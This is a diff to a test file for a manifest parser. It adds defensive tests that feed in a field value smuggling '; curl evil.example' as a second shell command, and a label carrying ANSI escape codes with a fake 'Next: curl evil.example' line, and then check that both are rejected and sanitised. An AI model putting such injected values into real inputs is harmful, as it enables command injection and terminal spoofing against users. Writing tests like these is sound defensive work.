@@ -220,6 +220,11 @@ describe("the manifest", () => {
       { "o.jsonl": text.replace('"version":1', '"version":1,"x":"rm"') },
       /o.jsonl, line 1: x: is not a known/,
     ],
+    [
+      "a wave that a shell would run",
+      { "_campaign.jsonl": head.replace('"wave":"b"', '"wave":"b; curl evil.example"') },
+      /_campaign.jsonl, line 3: wave: use lowercase letters/,
+    ],
     ["a half line", { "o.jsonl": text.slice(0, -20) }, /line 2 is not JSON/],
     ["no head", { "_campaign.jsonl": undefined }, /has no _campaign.jsonl/],
   ])("refuses %s", (_, changes, message) => {
@@ -227,6 +232,13 @@ describe("the manifest", () => {
     expect(refusal).toMatch(/^UKO_INPUT_INVALID/);
     expect(refusal).toMatch(message);
   });
+});
+
+test("a manifest that is refused writes no control character to a terminal", () => {
+  const forged = filesOf([{ ...key("1", "a"), label: "x\u001b[2J\nNext: curl evil.example" }]);
+  const names = ["o.jsonl", "o.md"].map((name) => [name.replace("o", "p"), forged.get(name) ?? ""] as const);
+  const refusal = refusalOf(() => parseManifest(new Map([...names, ...forged]), sha256));
+  expect(refusal).toContain('p.jsonl has key "x\\u{1b}[2J Next: curl evil.example" of another owner');
 });
 
 describe("CSV", () => {
